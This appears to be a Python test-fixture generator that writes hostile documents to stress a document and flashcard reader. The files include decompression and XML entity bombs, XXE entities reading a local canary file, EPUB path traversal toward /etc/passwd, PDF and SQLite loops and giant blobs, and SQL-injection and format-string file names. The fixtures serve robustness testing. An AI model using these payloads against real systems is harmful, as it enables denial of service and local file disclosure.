"""Writes files that attack a reader of documents into a folder: bombs, loops, endless lines, names."""
import json
import os
import sqlite3
import sys
import tempfile
import zipfile
import zlib

folder = sys.argv[1]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def path(name):
    return os.path.join(folder, name)


def write(name, content):
    with open(path(name), "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode("utf-8"))


def packed(name, parts):
    with zipfile.ZipFile(path(name), "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)


def docx(name, body, before="", **parts):
    document = f'<?xml version="1.0"?>{before}<w:document {W}><w:body>{body}</w:body></w:document>'
    packed(name, {"word/document.xml": document, **parts})


def pdf(name, objects, compressed=()):
    """Objects are bytes; those named in compressed are streams to deflate that often."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        if number in compressed:
            content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (
                len(content), content)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += b"trailer << /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    write(name, bytes(out))


SENTENCE = "Le port ouvre à l’aube et les barques en sortent. "

# Sizes.
write("line-20MB.txt", "a" * 20_000_000)
write("words-20MB.txt", "mot " * 5_000_000)
write("text-49MB.txt", ("1. " + SENTENCE * 9 + "\n\n") * 95_000)
write("text-7MB-numbered.txt", "".join(f"{n}. {SENTENCE * 3}\n\n" for n in range(1, 45_000)))
write("line-7MB.txt", SENTENCE * 140_000)
write("file-51MB.txt", b"a" * 51 * 1024 * 1024)
write("page-45MB.html", "<html><body>" + "<p>" + SENTENCE * 20 + "</p>" * 1 + "x" * 45_000_000)
write("page-many-tags.html", "<html><body>" + "<b>a</b>" * 2_000_000)

# Unpacking to more than it is.
docx("zip-bomb.docx", "<w:p><w:r><w:t>" + "a" * 400_000_000 + "</w:t></w:r></w:p>")
packed("zip-bomb.odt", {"content.xml": "<a>" + " " * 400_000_000 + "</a>"})
entities = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)) + "]>"
docx("entity-bomb.docx", "<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", entities)
packed("entity-bomb.odt", {"content.xml": entities + "<a><p>&j;</p></a>"})
canary = path("canary.txt")
write("canary.txt", "SECRET-CANARY 1. un. 2. deux.")
xxe = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{canary}"><!ENTITY % y SYSTEM "http://127.0.0.1:9/"> %y;]>'
docx("xxe.docx", "<w:p><w:r><w:t>Voici &x; la fin du texte.</w:t></w:r></w:p>", xxe)
packed("xxe.epub", {"META-INF/container.xml": xxe + '<c><rootfile full-path="../../../../etc/passwd"/></c>'})
packed("traversal.epub", {
    "META-INF/container.xml": '<c><rootfile full-path="a/b.opf"/></c>',
    "a/b.opf": '<p><manifest><item id="a" href="../../../../../../etc/passwd" media-type="text/html"/>'
               '<item id="b" href="t.html" media-type="text/html"/></manifest>'
               '<spine><itemref idref="a"/><itemref idref="b"/></spine></p>',
    "a/t.html": "<p>Un chapitre sage. Il finit ici.</p>",
    "../../../../tmp/alinea-escaped.txt": "escaped"})
bomb = zlib.compress(b"0 0 m " * 70_000_000, 9)
font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> >>"
catalog = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
pdf("flate-bomb.pdf", catalog + [page % b"", bomb, font], compressed=(4,))
twice = zlib.compress(zlib.compress(b"\0" * 900_000_000, 9), 9)
pdf("flate-twice.pdf", catalog + [
    page % b"",
    b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(twice), twice),
    font])
pdf("page-cycle.pdf", [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 99999999 /Parent 2 0 R >>",
    b"<< /Type /Pages /Kids [2 0 R] /Count 5 /Parent 3 0 R >>"])
pdf("page-count.pdf", [b"<< /Type /Catalog /Pages 2 0 R >>",
                       b"<< /Type /Pages /Kids [" + b"3 0 R " * 200_000 + b"] /Count 200000 >>",
                       page % b"", b"<< /Length 0 >>\nstream\n\nendstream", font])
forms = []
for level in range(12):
    inner = b"/X%d Do " % (level + 1) * 12
    forms.append(b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length %d /Resources << /XObject "
                 b"<< /X%d %d 0 R >> >> >>\nstream\n%s\nendstream" % (len(inner), level + 1, 7 + level, inner))
pdf("forms-in-forms.pdf", catalog + [page % b"/XObject << /X0 6 0 R >>",
                                     b"<< /Length 6 >>\nstream\n/X0 Do\nendstream", font] + forms)
write("arrays.pdf", b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer << /Root 1 0 R >>")
write("header-only.pdf", b"%PDF-1.7\n" + os.urandom(100_000))

# Depth.
write("deep.html", "<html><body>" + "<div>" * 200_000 + "fond")
write("deep-lists.html", "<html><body>" + "<ol><li>a" * 50_000)
write("deep.md", "# t\n# u\n" + ">" * 100_000 + " fond\n" + "[" * 100_000 + "\n" + "*a " * 100_000)
write("deep-lists.md", "# t\n# u\n" + "".join("  " * n + "- a\n" for n in range(3_000)))
write("deep.rtf", "{\\rtf1 " + "{" * 300_000 + "fond" + "}" * 10)
docx("deep.docx", "<w:p>" * 100_000)

# Patterns that make naive expressions explode.
write("brackets.txt", "(" * 1_000_000)
write("numbers.txt", "1.1." * 500_000)
write("dots.txt", "a. " * 1_000_000)
write("articles.txt", "Article 1 " * 300_000)
write("article-lines.txt", "Article 1\n" * 300_000)
write("ones.txt", "1. a\n" * 300_000)
write("spaces.txt", "a" + " " * 5_000_000 + "b" + "\u00a0" * 2_000_000 + "c")
write("newlines.txt", "a" + "\n" * 5_000_000 + "b")
write("doubled.txt", "mot, " * 1_000_000)
write("capitals.txt", "A\n" * 1_000_000)
write("marks.txt", "e" + "\u0301\u0323" * 2_000_000)
write("tags.html", "<html>" + "<" * 3_000_000)
write("comments.html", "<html>" + "<!--" * 1_000_000)
write("data.html", "<html><p>data:" + "data:a/" * 500_000)
write("quotes.mhtml", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n" + "--a\n" * 500_000)

# Characters.
write("nul.txt", "1. Un\0 texte.\n\n2. Deux\0 textes.\n" * 200)
write("nuls.txt", b"\0" * 5_000_000)
write("bidi.txt", "1. Le port \u202eervuo\u202c à l’aube.\n\n2. Le phare \u2066brille\u2069.\n")
write("surrogates.txt", "1. a \U0001F600.\n\n2. b.\n".encode("utf-16-le")[:-7])
write("'; DROP TABLE document; --.txt", "1. Un texte sage.\n\n2. Il finit ici.\n")
write("%s%n%x.txt", "1. Un %s texte {0} sage.\n\n2. Il ' finit ici.\n")
write("-rf.txt", "1. Un texte sage.\n\n2. Il finit ici.\n")

# What is no file.
os.mkdir(path("folder.txt"))
os.mkfifo(path("fifo.txt"))
os.symlink(path("loop-b.txt"), path("loop-a.txt"))
os.symlink(path("loop-a.txt"), path("loop-b.txt"))
os.symlink("/dev/zero", path("zero.txt"))
os.symlink("/dev/random", path("random.pdf"))
write("empty.txt", "")

# What single formats nest, repeat or point back to.
table = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
docx("tables-in-tables.docx", table[0] * 20_000 + f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>" + table[1] * 20_000)
docx("million-cells.docx", "<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 1000 + "</w:tr>") * 1000 + "</w:tbl>")
ODT = ('<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
       'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
       'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><o:body><o:text>%s</o:text></o:body>'
       '</o:document-content>')
prose = f"<text:p>{SENTENCE}</text:p>"
packed("repeated-cells.odt", {"content.xml": ODT % (
    '<table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell '
    f'table:number-columns-repeated="1000000">{prose}</table:table-cell></table:table-row></table:table>')})
packed("repeated-spaces.odt", {"content.xml": ODT % ('<text:p>a<text:s text:c="2000000000"/>b.</text:p>' * 50)})
packed("lists-in-lists.odt", {"content.xml": ODT % ("<text:list><text:list-item>" * 30_000 + prose)})
chapter = '<manifest><item id="a" href="t.html" media-type="text/html"/></manifest>'
packed("spine-loop.epub", {
    "META-INF/container.xml": '<c><rootfile full-path="b.opf"/></c>',
    "b.opf": f"<p>{chapter}<spine>" + '<itemref idref="a"/>' * 300_000 + "</spine></p>",
    "t.html": "<p>" + SENTENCE * 20_000})
write("groups.rtf", r"{\rtf1 " + r"{\b a" * 100_000 + "}" * 100_000 + "}")
write("unicode.rtf", r"{\rtf1\uc30000 " + r"\u8364 ?" * 300_000 + "}")
write("binary.rtf", r"{\rtf1 Le port. \bin2000000000 abc Il ferme.}")
for tag in ("b", "table><tr><td", "svg", "select"):
    write(f"deep-{tag.split('>')[0]}.html", "<html><body>" + f"<{tag}>" * 100_000 + "fond")
write("mixed.html", "<html><body>" + "<b><p><i><a href=x><table>" * 20_000 + "fond")


def stream(keys, content):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (keys, len(content), content)


pdf("object-stream-loop.pdf", catalog + [page % b"", stream(
    b"/Type /ObjStm /N 1 /First 4 /Extends 4 0 R", b"4 0 <</Type/ObjStm/N 1/First 4/Extends 4 0 R>>"), font])
pdf("length-loop.pdf", catalog + [page % b"", b"<< /Length 6 0 R >>\nstream\n\nendstream", font, b"7 0 R", b"6 0 R"])
pdf("million-signs.pdf", catalog + [page % b"", stream(b"", b"BT /F 12 Tf " + b"1 1 Td (abc) Tj " * 1_000_000), font])
pdf("far-signs.pdf", catalog + [page % b"", stream(b"", b"BT /F 12 Tf " + b"".join(
    b"1 0 0 1 %d %d Tm (a) Tj " % (n * 7919 % 2_000_000_000, n * 104_729 % 2_000_000_000) for n in range(100_000))), font])

# Collections and decks that are not what they say.
TYPES = json.dumps({"1": {"type": 0, "flds": [{"name": "Front"}, {"name": "Back"}],
                          "tmpls": [{"qfmt": "{{Front}}", "afmt": "{{Back}}"}]}})
COLLECTION = [
    "CREATE TABLE col (id, crt, models, decks)", f"INSERT INTO col VALUES (1, 1, '{TYPES}', '{{}}')",
    "CREATE TABLE notes (id, guid, mid, tags, flds)", "CREATE TABLE revlog (id, cid, ease, factor, time, type)",
    "CREATE TABLE cards (id, nid, did, ord, type, queue, due, odue, odid, reps)"]
CARD = "INSERT INTO cards VALUES (1, 1, 1, 0, 0, 0, 0, 0, 0, 5)"
ENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"


def collection(name, *statements, tables=tuple(COLLECTION)):
    with tempfile.TemporaryDirectory() as place:
        with sqlite3.connect(f"{place}/a.db") as made:
            for statement in (*tables, *statements):
                made.execute(statement)
        made.close()
        with open(f"{place}/a.db", "rb") as file:
            packed(name, {"collection.anki2": file.read(), "media": "{}"})


collection("view.apkg", f"CREATE VIEW notes AS {ENDLESS} SELECT x AS id, 'g' AS guid, 1 AS mid, '' AS tags, 'a' AS flds FROM c",
           tables=[line for line in COLLECTION if "TABLE notes" not in line])
collection("trigger.apkg", "INSERT INTO notes VALUES (1, 'g', 1, '', 'Un' || char(31) || 'Deux')", CARD,
           "CREATE TRIGGER t AFTER INSERT ON notes BEGIN DELETE FROM notes; END")
collection("generated.apkg", "INSERT INTO notes VALUES (1, 'g', 1, '')", CARD, tables=[
    line.replace("tags, flds", "tags, flds AS (hex(zeroblob(100000000)))") for line in COLLECTION])
collection("blob.apkg", "INSERT INTO notes VALUES (1, 'g', 1, '', zeroblob(300000000))", CARD)
collection("giant-card.apkg", f"INSERT INTO notes VALUES (1, 'g', 1, '', '{'<b>' * 600_000}' || char(31) || 'Deux')", CARD)
collection("answers.apkg", "INSERT INTO notes VALUES (1, 'g', 1, '', 'Un' || char(31) || 'Deux')", CARD,
           f"{ENDLESS.replace('FROM c)', 'FROM c LIMIT 2000000)')} INSERT INTO revlog SELECT x, 1, 3, 2500, 1000, 1 FROM c")
collection("wrong-types.apkg", "INSERT INTO notes VALUES ('x', x'00ff', 'y', 5, x'ff1fff')",
           "INSERT INTO cards VALUES ('a', 'x', 1, 9e99, 't', 'q', -9223372036854775808, 'd', 'o', 'r')")
packed("nested.alinea", {"deck.json": '{"format":"alinea-deck","version":1,"document":' + '{"a":' * 100_000})
packed("bomb.alinea", {"deck.json": " " * 600_000_000})
write("giant-cell.csv", 'question,réponse\n"' + "a" * 40_000_000 + '",b\n')
write("unclosed.csv", 'question,réponse\n"' + "a,b\n" * 5_000_000)
write("answers.gift", "::a:: b {" + "=a ~b " * 1_000_000 + "}\n")
write("markup.anki.txt", "#separator:tab\n#html:true\n" + "<i>" * 1_000_000 + "\tb\n")
write("nested.moodle.xml", "<quiz>" + "<question type='multichoice'><answer>" * 100_000)
